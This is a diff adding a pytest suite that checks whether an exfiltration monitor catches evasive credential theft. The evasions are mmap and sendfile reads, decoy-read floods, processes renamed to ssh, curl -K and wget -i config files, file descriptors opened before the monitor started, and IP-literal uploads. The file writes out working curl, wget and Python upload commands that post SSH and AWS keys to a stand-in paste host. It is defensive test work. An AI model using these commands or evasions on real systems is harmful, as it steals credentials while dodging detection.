@@ -1,0 +1,466 @@
+"""Evasion classes of issue 12 that test_evasion.py does not replay: reading without read(2)
+(mmap, pread/preadv/readv, sendfile and splice to the uploader), a read budget flooded with
+decoys, an uploader that claims another identity (argv[0]) or takes its arguments from a file
+(curl -K, wget -i), a key and a connection opened before the monitor started, and a flow with no
+name at all. Each attack alerts with its sub-technique and leaks no line of the key; each twin
+stays silent."""
+
+import json
+import os
+import subprocess
+
+import pytest
+
+from harness import Monitor, Scenario, as_list, assert_silent, check_service_saw, execute, get
+from harness import is_action, paths
+from harness.config import HTTP_PORT, HTTPS_PORT
+
+from test_evasion import (PASTE, UPLOAD, WAIT_S, assert_no_secret, dataflow_attack, key_of, opened,
+                          silent_run)
+from test_scenarios import run_attack
+
+PY = paths.PYTHON
+READ_AS = paths.TOOLS_DIR / "read_as.py"
+CURL_STDIN = f"curl -sk --resolve {PASTE}:{HTTPS_PORT}:127.0.0.1 --data-binary @- https://{PASTE}:{HTTPS_PORT}/"
+METHODS = ["pread", "preadv", "readv", "sendfile", "splice"]
+
+def read_as(method, path, *options):
+    return " ".join([str(PY), str(READ_AS), method, str(path), *map(str, options)])
+
+
+def plain_alerts(monitor, technique="T1567.003", domain=PASTE):
+    """This test's alerts over plain HTTP to the stand-in (HTTP_PORT) under `domain`."""
+    found = [r for r in monitor.records()
+             if get(r, "event.action") == "exfiltration-suspected"
+             and get(r, "destination.port") == HTTP_PORT and get(r, "destination.domain") == domain
+             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
+    assert found, f"no {technique} alert to {domain}:{HTTP_PORT}"
+    return found
+
+
+def harmless_report(tmp_path):
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed: 812 tests, 0 failures\n" * 60)
+    return report
+
+
+def file_mapped(records, path, process_prefix):
+    """A file-summary of `path` by a process named `process_prefix*` with its bytes mapped."""
+    size = os.stat(path).st_size
+    found = [r for r in records
+             if is_action("file-summary", {"file.path": str(path)})(r)
+             and str(get(r, "process.name", "")).startswith(process_prefix)
+             and get(r, "exfilwatch.file.bytes_mapped", 0) >= size]
+    assert found, f"no file-summary of {path} with {size} bytes mapped by {process_prefix}"
+    return found
+
+
+# --- Class: mmap, no read(2) at all ----------------------------------------------------------
+# The key is mapped and the mapping written out (a pipe to curl, or a staging file curl uploads):
+# the kernel sees no read of the file, only the map; its mapped length counts as read.
+
+@pytest.mark.parametrize("secret", [".ssh/id_ed25519", ".aws/credentials"])
+def test_mmap_of_the_key_written_to_a_pipe(monitor, standin, fake_home, tmp_path, secret):
+    path = fake_home.files[secret]
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "mmap-pipe",
+                    f"{read_as('mmap', path)} | {CURL_STDIN}")
+    file_mapped(monitor.records(), path, "python")
+    assert_no_secret(monitor, path)
+
+
+def test_mmap_of_the_key_written_to_a_staging_file(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    stage = tmp_path / "stage.bin"
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "mmap-stage",
+                            f"{read_as('mmap', key)} > {stage} && " + UPLOAD.format(stage))
+    assert any("staged in" in get(r, "event.reason", "") for r in found), \
+        [get(r, "event.reason") for r in found]
+    assert_no_secret(monitor, key)
+
+
+def test_mmap_of_an_fd_from_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
+    # No path on the open and no read: the file named from the opened file, its map counted.
+    key = key_of(fake_home)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "mmap-handle",
+                    f"{handle_open} --mmap {key} | {CURL_STDIN}")
+    records = monitor.records()
+    found = opened(records, key, "handle_open")
+    assert any(not get(r, "exfilwatch.file.requested_path") for r in found)
+    file_mapped(records, key, "handle_open")
+    assert_no_secret(monitor, key)
+
+
+def test_mmap_of_a_harmless_file_is_silent(monitor, standin, fake_home, tmp_path, handle_open):
+    report = harmless_report(tmp_path)
+    silent_run(monitor, standin, fake_home, tmp_path, "mmap-twin",
+               f"{read_as('mmap', report)} | {CURL_STDIN} && "
+               f"{handle_open} --mmap {report} | {CURL_STDIN}")
+    file_mapped(monitor.records(), report, "python")
+
+
+# --- Class: the other read calls and in-kernel copies ----------------------------------------
+
+@pytest.mark.parametrize("method", METHODS)
+def test_other_read_calls_to_a_pipe(monitor, standin, fake_home, tmp_path, method):
+    # pread64/preadv/readv into the process, or sendfile/splice from the key straight into the
+    # pipe to curl (the bytes never enter the process).
+    key = key_of(fake_home)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, f"{method}-pipe",
+                    f"{read_as(method, key)} | {CURL_STDIN}")
+    assert_no_secret(monitor, key)
+
+
+@pytest.mark.parametrize("method", ["sendfile", "splice"])
+def test_key_spliced_straight_into_the_upload_socket(monitor, standin, fake_home, tmp_path, method):
+    # The POST body goes from the key file into the TCP socket inside the kernel.
+    key = key_of(fake_home)
+    scenario = Scenario(f"{method}-socket", "alert",
+                        read_as(method, key, "--post", "127.0.0.1", HTTP_PORT, PASTE),
+                        technique="T1567.003", domain=PASTE, uploads=True)
+    run_attack(scenario, monitor, standin, fake_home, tmp_path)
+    plain_alerts(monitor)
+    flows = [r for r in monitor.records()
+             if is_action("flow-summary", {"destination.port": HTTP_PORT, "destination.domain": PASTE})(r)
+             and str(get(r, "process.name", "")).startswith("python")
+             and get(r, "source.bytes", 0) >= os.stat(key).st_size]
+    assert flows, "no flow-summary carrying the key's bytes"
+    assert_no_secret(monitor, key)
+
+
+@pytest.mark.parametrize("method", METHODS)
+def test_other_read_calls_of_a_harmless_file_are_silent(monitor, standin, fake_home, tmp_path, method):
+    report = harmless_report(tmp_path)
+    silent_run(monitor, standin, fake_home, tmp_path, f"{method}-twin",
+               f"{read_as(method, report)} | {CURL_STDIN} && "
+               f"{read_as(method, report, '--post', '127.0.0.1', HTTP_PORT, PASTE)}")
+
+
+# --- Class: a read budget cannot be exhausted --------------------------------------------------
+# Hundreds of harmless reads by the same process before the key (many of them config files and
+# public keys that look sensitive), or a flood of opens after it: the key's read is never the
+# one forgotten.
+
+def make_decoys(fake_home, count):
+    """`count` harmless files that look like configuration: public keys, tool configs, known
+    hosts, example environment files under a project."""
+    directory = fake_home.path / ".config" / "decoys"
+    directory.mkdir(parents=True)
+    for i in range(count):
+        shape = i % 4
+        name = [f"id_tool{i:04d}.pub", f"tool{i:04d}.conf", f"known_hosts.{i:04d}",
+                f"settings{i:04d}.yaml"][shape]
+        body = [f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{i:032d} decoy{i}@build\n",
+                f"[core]\nverbose = false\ncolor = auto\nretries = {i % 7}\n",
+                f"build{i}.example.org ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{i:032d}\n",
+                f"log_level: info\nworkers: {i % 9}\ncache_dir: /var/cache/tool{i}\n"][shape]
+        (directory / name).write_text(body * 4)
+    return directory
+
+
+def test_two_hundred_decoy_reads_before_the_key(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    decoys = make_decoys(fake_home, 200)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "decoys-before",
+                    f"{read_as('read', key, '--decoys-before', 200, decoys)} | {CURL_STDIN}")
+    assert_no_secret(monitor, key)
+
+
+def test_two_hundred_weaker_secrets_before_the_key(monitor, standin, fake_home, tmp_path):
+    # The budget attack proper: 200 reads of a weaker sensitive class (project .env files) fill
+    # what one process may hold (max_reads_per_process) before the key; the key is never the read
+    # dropped, and the alert names it.
+    key = key_of(fake_home)
+    decoys = fake_home.path / "envs"
+    decoys.mkdir()
+    for i in range(200):
+        (decoys / f"{i:04d}").mkdir()
+        (decoys / f"{i:04d}" / ".env").write_text(f"LOG_LEVEL=info\nWORKERS={i % 9}\n")
+    links = fake_home.path / "env-list"  # read_as takes a directory of files: link each .env
+    links.mkdir()
+    for i in range(200):
+        (links / f"{i:04d}").symlink_to(decoys / f"{i:04d}" / ".env")
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "weaker-before",
+                            f"{read_as('read', key, '--decoys-before', 200, links)} | {CURL_STDIN}")
+    assert any(f.get("path") == str(key) for r in found for f in get(r, "exfilwatch.files", [])), \
+        [[f.get("path") for f in get(r, "exfilwatch.files", [])] for r in found]
+    assert_no_secret(monitor, key)
+
+
+def test_a_flood_of_opens_after_the_key_read(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    decoys = make_decoys(fake_home, 1000)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "decoys-after",
+                    f"{read_as('read', key, '--decoys-after', 1000, decoys)} | {CURL_STDIN}")
+    assert_no_secret(monitor, key)
+
+
+def test_decoys_in_one_process_and_the_key_uploaded_by_it(monitor, standin, fake_home, tmp_path):
+    # Reader and uploader in one process: 200 decoys read, then the key, posted over plain HTTP.
+    key = key_of(fake_home)
+    decoys = make_decoys(fake_home, 200)
+    scenario = Scenario("decoys-one-process", "alert",
+                        read_as("read", key, "--decoys-before", 200, decoys,
+                                "--post", "127.0.0.1", HTTP_PORT, PASTE),
+                        technique="T1567.003", domain=PASTE, uploads=True)
+    run_attack(scenario, monitor, standin, fake_home, tmp_path)
+    plain_alerts(monitor)
+    assert_no_secret(monitor, key)
+
+
+def test_two_hundred_decoys_uploaded_are_silent(monitor, standin, fake_home, tmp_path):
+    # The twin: the same 200 config files read, then a report of them uploaded.
+    report = harmless_report(tmp_path)
+    decoys = make_decoys(fake_home, 200)
+    silent_run(monitor, standin, fake_home, tmp_path, "decoys-twin",
+               f"{read_as('read', report, '--decoys-before', 200, decoys)} | {CURL_STDIN}")
+
+
+# --- Class: identity from the executable, not argv[0]; arguments held in files ----------------
+# `exec -a ssh` makes curl (or python) call itself ssh, a credential consumer whose key read is
+# use; the executable says what it is. curl -K and wget -i take the URL (and the body) from a
+# file, so the command line is not all of the arguments. The twin, the real ssh and scp using
+# their key, is test_engine_volume.py's test_ssh_and_scp_with_a_deploy_key_are_silent.
+
+UPLOADER = """import os, socket, ssl, sys
+data = open(sys.argv[1], "rb").read()
+s = ssl._create_unverified_context().wrap_socket(
+    socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n"
+          b"Connection: close\\r\\n\\r\\n" % len(data) + data)
+while s.recv(65536):
+    pass
+"""
+
+
+def uploader_script(tmp_path):
+    script = tmp_path / "sync"  # no .py: a script known by its own name
+    script.write_text(UPLOADER.format(port=HTTPS_PORT, paste=PASTE))
+    return script
+
+
+def test_curl_calling_itself_ssh(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "argv0-ssh-curl",
+                            "exec -a ssh " + UPLOAD.format(key))
+    assert any(str(get(r, "process.executable", "")).endswith("/curl") for r in found), \
+        [get(r, "process.executable") for r in found]
+    assert_no_secret(monitor, key)
+
+
+def test_python_calling_itself_ssh(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    script = uploader_script(tmp_path)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "argv0-ssh-python",
+                    f"exec -a ssh {PY} {script} {key}")
+    assert_no_secret(monitor, key)
+
+
+def test_curl_taking_url_and_body_from_a_config_file(monitor, standin, fake_home, tmp_path):
+    # Neither the key nor the paste site is on the command line: both are in the -K file.
+    key = key_of(fake_home)
+    config = tmp_path / "job.cfg"
+    config.write_text(f'silent\ninsecure\nresolve = "{PASTE}:{HTTPS_PORT}:127.0.0.1"\n'
+                      f'data-binary = "@{key}"\nurl = "https://{PASTE}:{HTTPS_PORT}/"\n')
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "curl-K", f"curl -K {config}")
+    assert_no_secret(monitor, key)
+
+
+def test_curl_config_file_posting_a_status_is_silent(monitor, standin, fake_home, tmp_path):
+    config = tmp_path / "job.cfg"
+    config.write_text(f'silent\ninsecure\nresolve = "{PASTE}:{HTTPS_PORT}:127.0.0.1"\n'
+                      f'data = "build 1234 passed"\nurl = "https://{PASTE}:{HTTPS_PORT}/"\n')
+    silent_run(monitor, standin, fake_home, tmp_path, "curl-K-twin", f"curl -K {config}")
+
+
+WGET_HOSTS = (PASTE,)
+
+
+def test_wget_taking_its_url_from_a_file(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    urls = tmp_path / "urls.txt"
+    urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "wget-i",
+                    f"wget -q -O /dev/null --no-check-certificate --post-file={key} -i {urls}",
+                    hosts=WGET_HOSTS)
+    assert_no_secret(monitor, key)
+
+
+def test_wget_taking_url_and_body_from_its_config(monitor, standin, fake_home, tmp_path):
+    # A wgetrc holding the body (post_file) and the URL list (input): nothing on the line.
+    key = key_of(fake_home)
+    urls = tmp_path / "urls.txt"
+    urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
+    rc = tmp_path / "wgetrc"
+    rc.write_text(f"check_certificate = off\npost_file = {key}\ninput = {urls}\n"
+                  "output_document = /dev/null\nquiet = on\n")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "wget-config", f"wget --config={rc}",
+                    hosts=WGET_HOSTS)
+    assert_no_secret(monitor, key)
+
+
+def test_wget_url_file_posting_a_report_is_silent(monitor, standin, fake_home, tmp_path):
+    report = harmless_report(tmp_path)
+    urls = tmp_path / "urls.txt"
+    urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
+    silent_run(monitor, standin, fake_home, tmp_path, "wget-i-twin",
+               f"wget -q -O /dev/null --no-check-certificate --post-file={report} -i {urls}",
+               hosts=WGET_HOSTS)
+
+
+# --- Class: opened before the monitor started --------------------------------------------------
+# A process holds the key's fd (and, in one variant, its connection to the paste site) from
+# before the monitor starts; after the start it reads the fd and uploads. The start-up /proc scan
+# finds the open file and the adopted socket; the flow opened before the read carries the data.
+
+HOLDER = """import os, socket, ssl, sys
+fd = os.open(sys.argv[1], os.O_RDONLY)
+early = sys.argv[2] == "early"
+def connect():
+    return ssl._create_unverified_context().wrap_socket(
+        socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+s = connect() if early else None
+print("ready", flush=True)
+sys.stdin.readline()
+data = b""
+if sys.argv[3] == "mmap":  # no read(2): the mapping of the old fd
+    import mmap
+    data = bytes(mmap.mmap(fd, 0, prot=mmap.PROT_READ))
+while sys.argv[3] == "read" and (chunk := os.read(fd, 4096)):
+    data += chunk
+s = s or connect()
+s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n"
+          b"Connection: close\\r\\n\\r\\n" % len(data) + data)
+while s.recv(65536):
+    pass
+print("done", flush=True)
+"""
+
+
+def start_holder(tmp_path, fake_home, path, connection, method="read"):
+    script = tmp_path / "holder"
+    script.write_text(HOLDER.format(port=HTTPS_PORT, paste=PASTE))
+    holder = subprocess.Popen([str(PY), str(script), str(path), connection, method], env=fake_home.env(),
+                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
+                              start_new_session=True)
+    assert holder.stdout.readline().strip() == "ready"
+    return holder
+
+
+def release(holder):
+    holder.stdin.write("go\n")
+    holder.stdin.flush()
+    out, _ = holder.communicate(timeout=60)
+    assert holder.returncode == 0 and out.strip() == "done", (holder.returncode, out)
+
+
+def held_alerts(monitor, holder, technique):
+    found = [r for r in monitor.records()
+             if get(r, "event.action") == "exfiltration-suspected"
+             and get(r, "destination.port") == HTTPS_PORT
+             and technique in as_list(get(r, "threat.technique.subtechnique.id" if "." in technique
+                                          else "threat.technique.id", []))]
+    assert found, (f"no {technique} alert to port {HTTPS_PORT}: "
+                   f"{[(get(r, 'process.pid'), get(r, 'event.reason')) for r in monitor.records() if get(r, 'event.kind') == 'alert']}")
+    return found
+
+
+@pytest.mark.parametrize("connection,method,technique", [("late", "read", "T1567.003"),
+                                                         ("late", "mmap", "T1567.003"),
+                                                         ("early", "read", "T1567")])
+def test_key_opened_before_the_monitor_started(tmp_path, fake_home, standin, connection, method,
+                                               technique):
+    # late: connected after the start, so the flow is named by its SNI; early: connected (TLS
+    # handshake and all) before the start, so the adopted flow has no name the monitor saw, only
+    # its address: T1567 with destination.ip. With no name, no upload command and no content
+    # match, a secret under min_upload_bytes (1 KiB) stays under the threshold like any small
+    # send after a credential read (a cloud SDK's request), so the early variant steals an RSA
+    # key (2.5 KiB, the common kind); see EVASION.md.
+    key = key_of(fake_home)
+    if connection == "early":
+        key = fake_home.path / ".ssh" / "id_rsa"
+        subprocess.run(["ssh-keygen", "-q", "-t", "rsa", "-b", "3072", "-N", "", "-f", str(key)],
+                       check=True)
+    holder = start_holder(tmp_path, fake_home, key, connection, method)
+    try:
+        with Monitor(tmp_path / "monitor") as monitor:
+            release(holder)
+            check_service_saw(Scenario("held", "alert", "", domain=PASTE, uploads=True), standin)
+            monitor.poll_for(lambda r: get(r, "event.action") == "exfiltration-suspected"
+                             and get(r, "process.pid") == holder.pid, WAIT_S)
+            monitor.stop()
+            found = [r for r in held_alerts(monitor, holder, technique)
+                     if get(r, "process.pid") == holder.pid]
+            assert found, "the alert is not the holder's"
+            assert all(get(r, "destination.ip") == "127.0.0.1" for r in found)
+            if connection == "late":
+                assert any(get(r, "destination.domain") == PASTE for r in found)
+            if method == "mmap":
+                file_mapped(monitor.records(), key, "python")
+            assert_no_secret(monitor, key)
+    finally:
+        if holder.poll() is None:
+            holder.kill()
+
+
+def test_connection_opened_before_the_key_read(monitor, standin, fake_home, tmp_path):
+    # Connected (and named) first, then the key read, then sent on the old connection.
+    key = key_of(fake_home)
+    script = tmp_path / "holder"
+    script.write_text(HOLDER.format(port=HTTPS_PORT, paste=PASTE))
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "connection-first",
+                    f"echo go | {PY} {script} {key} early read")
+    assert_no_secret(monitor, key)
+
+
+def test_harmless_file_opened_before_the_monitor_started_is_silent(tmp_path, fake_home, standin):
+    report = harmless_report(tmp_path)
+    holder = start_holder(tmp_path, fake_home, report, "early")
+    try:
+        with Monitor(tmp_path / "monitor") as monitor:
+            release(holder)
+            check_service_saw(Scenario("held", "silent", "", domain=PASTE, uploads=True), standin)
+            monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
+                             and get(r, "process.pid") == holder.pid
+                             and get(r, "exfilwatch.flow.adopted") is True, WAIT_S,
+                             "the holder's adopted flow")
+            monitor.stop()
+            assert_silent([r for r in monitor.records() if get(r, "process.pid") == holder.pid
+                           or get(r, "destination.port") == HTTPS_PORT])
+    finally:
+        if holder.poll() is None:
+            holder.kill()
+
+
+# --- Class: a flow with no name at all ---------------------------------------------------------
+# An IP literal: curl sends no SNI for it and its Host is the address. The scp twin of this class
+# (SSH, no name either) is test_engine_volume.py's test_scp_of_the_key_itself_alerts_with_the_address.
+
+IP_UPLOAD = "curl -sk -T {} https://127.0.0.1:8443/"
+
+
+def test_upload_to_an_ip_literal_alerts_with_the_address(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    scenario = Scenario("ip-literal", "alert", IP_UPLOAD.format(key), technique="T1567",
+                        uploads=True)
+    run_attack(scenario, monitor, standin, fake_home, tmp_path)
+    found = [r for r in monitor.records() if get(r, "event.action") == "exfiltration-suspected"
+             and get(r, "destination.port") == HTTPS_PORT
+             and str(get(r, "process.name", "")) == "curl"]
+    assert found and all(get(r, "destination.ip") == "127.0.0.1" for r in found), found
+    # (the host's own /etc/hosts may name 127.0.0.1, e.g. after the hostname: that name is no
+    # service, so the alert stays the parent technique)
+    assert all(get(r, "destination.domain") != PASTE for r in found)
+    assert "T1567" in as_list(get(found[-1], "threat.technique.id"))
+    assert_no_secret(monitor, key)
+
+
+def test_report_to_an_ip_literal_is_silent(monitor, standin, fake_home, tmp_path):
+    report = harmless_report(tmp_path)
+    scenario = Scenario("ip-literal-twin", "silent", IP_UPLOAD.format(report), uploads=True)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
+                     and get(r, "destination.port") == HTTPS_PORT
+                     and str(get(r, "process.name", "")) == "curl", WAIT_S, "curl's flow")
+    monitor.stop()
+    assert_silent([r for r in monitor.records()
+                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])
